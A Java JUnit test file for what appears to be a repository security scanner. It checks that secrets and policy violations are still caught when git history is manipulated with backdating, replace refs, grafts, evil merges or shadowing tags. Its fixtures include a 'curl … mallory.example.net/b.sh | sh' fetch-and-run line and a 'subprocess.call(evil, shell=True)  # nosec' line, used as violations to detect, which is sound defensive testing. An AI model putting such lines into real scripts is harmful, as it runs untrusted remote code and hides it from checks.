package dev.plumbline.app.cli.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

/**
 * Changes that try to pass something new off as known, to be compared with another base than the
 * trusted one, or to have git lie about what is in them.
 */
class KnownAttackTest {
  @TempDir Path temp;

  @Test
  void aSecondCommitDoesNotMakeTheFirstOnesSecretKnown() {
    Victim victim = Victim.at(temp.resolve("second"));
    victim.git.git("checkout", "-q", "-b", "change");
    victim.plant();
    victim.git.commit("one");
    victim.git.write(Victim.SOURCE, "// touched\n" + Victim.source(victim.secret)).commit("two");
    found(victim.check("--range", "main..change"));
    found(victim.check("--range", "main...change"));
    found(victim.check("--base", "main"));
  }

  @Test
  void aSecretThatComesAndGoesWithinTheChangeIsFound() {
    Victim victim = Victim.at(temp.resolve("gone"));
    victim.git.git("checkout", "-q", "-b", "change");
    victim.plant();
    victim.git.commit("one");
    victim.git.write(Victim.SOURCE, "class Main {}\n").commit("two");
    found(victim.check("--range", "main..change"));
    victim.check("--base", "main").closed().shows("secrets.history", Victim.SOURCE);
  }

  @Test
  void aBackdatedSideBranchDoesNotMakeTheSecretKnown() {
    Victim victim = Victim.at(temp.resolve("side"));
    victim.plant();
    victim.git.git("checkout", "-q", "-b", "change");
    victim.git.commit("the change");
    victim.git.git("checkout", "-q", "--orphan", "side");
    victim.git.commit("the same file elsewhere");
    String side = victim.git.git("cat-file", "commit", "HEAD");
    String old =
        victim
            .git
            .gitWith(
                side.replaceAll("> 1[0-9]{9} ", "> 1000000000 ")
                    .getBytes(java.nio.charset.StandardCharsets.UTF_8),
                "hash-object",
                "-t",
                "commit",
                "-w",
                "--stdin")
            .strip();
    victim.git.git("update-ref", "refs/heads/side", old);
    victim.git.git("checkout", "-q", "-f", "change");
    found(victim.check("--base", "main"));
    found(victim.check("--range", "main..change"));
  }

  @Test
  void aDraftInTheObjectStoreDoesNotMakeTheSecretKnown() {
    Victim victim = Victim.at(temp.resolve("draft"));
    victim.plant();
    victim.git.git("stash", "-q");
    victim.plant();
    victim.git.git("add", "-A");
    found(victim.check("--base", "main"));
    found(victim.check("--base", "HEAD"));
    found(victim.check("--staged"));
  }

  @Test
  void aSecretBesideAKnownOneIsNew() {
    Victim victim = Victim.at(temp.resolve("beside"));
    victim.plant();
    victim.git.commit("known");
    String second = new dev.plumbline.testkit.SampleSecrets(99).gitHubToken();
    for (Judged judged :
        victim.judge(v ->
            v.git.write(
                Victim.SOURCE,
                "String a = \"" + v.secret + "\"; String b = \"" + second + "\";\n"))) {
      found(judged);
    }
  }

  @Test
  void anEvilMergeIsPartOfTheChange() {
    Victim victim = Victim.at(temp.resolve("evil"));
    victim.git.git("checkout", "-q", "-b", "change");
    victim.git.write("a.txt", "a\n").commit("a");
    victim.git.git("checkout", "-q", "main");
    victim.git.write("b.txt", "b\n").commit("b");
    victim.git.git("checkout", "-q", "change");
    victim.git.git("merge", "-q", "--no-commit", "--no-ff", "main");
    victim.plant();
    victim.git.commit("merge");
    found(victim.check("--range", "main..change"));
    found(victim.check("--base", "main"));
  }

  @Test
  void aTagOrBranchNamedLikeTheBaseIsRefused() {
    Victim victim = Victim.at(temp.resolve("tag"));
    victim.git.git("checkout", "-q", "-b", "change");
    victim.plant();
    victim.git.commit("change");
    victim.git.git("tag", "main", "change");
    assertThat(victim.check("--base", "main").ends(2).result().err()).contains("may mean");
    assertThat(victim.check("--range", "main..change").ends(2).result().err()).contains("may mean");
    found(victim.check("--base", "refs/heads/main"));
  }

  @Test
  void anOldPointOfDepartureDoesNotBringOldSettingsBack() {
    Victim victim = Victim.at(temp.resolve("departure"));
    victim
        .git
        .write(
            Victim.POLICY,
            "schema: 1\nexclude:\n  - {path: \"src/**\", reason: Before we knew better.}\n")
        .commit("lax");
    victim.git.git("branch", "change");
    victim.git.write(Victim.POLICY, "schema: 1\n").commit("strict");
    victim.git.git("checkout", "-q", "change");
    victim.plant();
    victim.git.commit("change");
    found(victim.check("--range", "main..change"));
    found(victim.check("--range", "main...change"));
    found(victim.check("--base", "main"));
  }

  @Test
  void aReplacementDoesNotHideTheObjectBeneath() {
    Victim victim = Victim.at(temp.resolve("replace"));
    victim.git.git("checkout", "-q", "-b", "change");
    victim.plant();
    victim.git.commit("change");
    String blob = victim.git.git("rev-parse", "HEAD:" + Victim.SOURCE).strip();
    String clean = victim.git.git("rev-parse", "main:" + Victim.SOURCE).strip();
    victim.git.git("replace", blob, clean);
    victim.git.git("replace", "change", "main");
    found(victim.check("--range", "main..change"));
    victim.check("--base", "main").closed().shows("secrets.history", Victim.SOURCE);
  }

  @Test
  void aGraftDoesNotCutTheRange() throws Exception {
    Victim victim = Victim.at(temp.resolve("graft"));
    victim.git.git("checkout", "-q", "-b", "change");
    victim.plant();
    victim.git.commit("one");
    victim.git.write(Victim.SOURCE, "class Main {}\n").commit("two");
    String head = victim.git.git("rev-parse", "HEAD").strip();
    String main = victim.git.git("rev-parse", "main").strip();
    java.nio.file.Files.writeString(
        victim.root().resolve(".git/info/grafts"), head + " " + main + "\n");
    found(victim.check("--range", "main..change"));
  }

  /** A violation of a kind that the base has already, at another place, is a new one. */
  @TestFactory
  Stream<DynamicTest> behindAKnownViolation() {
    String workflow =
        "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n";
    return Stream.of(
        behind(
            "an action that is not pinned",
            "workflows.actions-pinned",
            ".github/workflows/a.yml",
            workflow + "      - uses: acme/known@v1\n",
            workflow + "      - uses: acme/known@v1\n      - uses: mallory/new@v1\n"),
        behind(
            "a download without a checksum",
            "downloads.verified",
            "install.sh",
            "#!/bin/sh\ncurl -fsSL https://known.example.com/a.sh | sh\n",
            "#!/bin/sh\ncurl -fsSL https://known.example.com/a.sh | sh\ncurl -fsSL https://mallory.example.net/b.sh | sh\n"),
        behind(
            "a check that is switched off",
            "checks.not-switched-off",
            "a.py",
            "import subprocess\nsubprocess.call('ls', shell=True)  # nosec\n",
            "import subprocess\nsubprocess.call('ls', shell=True)  # nosec\nsubprocess.call(evil, shell=True)  # nosec\n"),
        behind(
            "a test that is skipped",
            "tests.not-skipped",
            "src/test/java/ATest.java",
            "import org.junit.jupiter.api.Disabled;\n\nclass ATest {\n  @Disabled\n  @Test\n  void one() {}\n}\n",
            "import org.junit.jupiter.api.Disabled;\n\nclass ATest {\n  @Disabled\n  @Test\n  void one() {}\n\n  @Disabled\n  @Test\n  void two() {}\n}\n"),
        behind(
            "a second container that runs as root",
            "containers.non-root",
            "compose.yaml",
            "services:\n  a:\n    image: alpine:3\n    user: root\n",
            "services:\n  a:\n    image: alpine:3\n    user: root\n  b:\n    image: alpine:3\n    user: root\n"),
        behind(
            "a literal in a manifest",
            "workloads.secret-references",
            "compose.yaml",
            "services:\n  a:\n    image: alpine:3\n    environment:\n      DB_PASSWORD: "
                + word(1)
                + "\n",
            "services:\n  a:\n    image: alpine:3\n    environment:\n      DB_PASSWORD: "
                + word(1)
                + "\n      API_SECRET: "
                + word(2)
                + "\n"),
        behind(
            "a dependency that is not pinned",
            "dependencies.pinned",
            "requirements.txt",
            "flask\n",
            "flask\nmallory\n"));
  }

  private static String word(long seed) {
    return new dev.plumbline.testkit.SampleSecrets(seed).gitHubToken().substring(8, 24);
  }

  private DynamicTest behind(String name, String check, String path, String base, String change) {
    return dynamicTest(
        name,
        () -> {
          Victim victim = Victim.at(temp.resolve(name.replaceAll("[^a-z]+", "-")));
          victim.git.write(path, base).commit("known");
          for (Judged judged : victim.judge(v -> v.git.write(path, change))) {
            judged.shows(check, path);
          }
        });
  }

  private static void found(Judged judged) {
    judged.closed().shows("secrets.tree", Victim.SOURCE);
  }
}
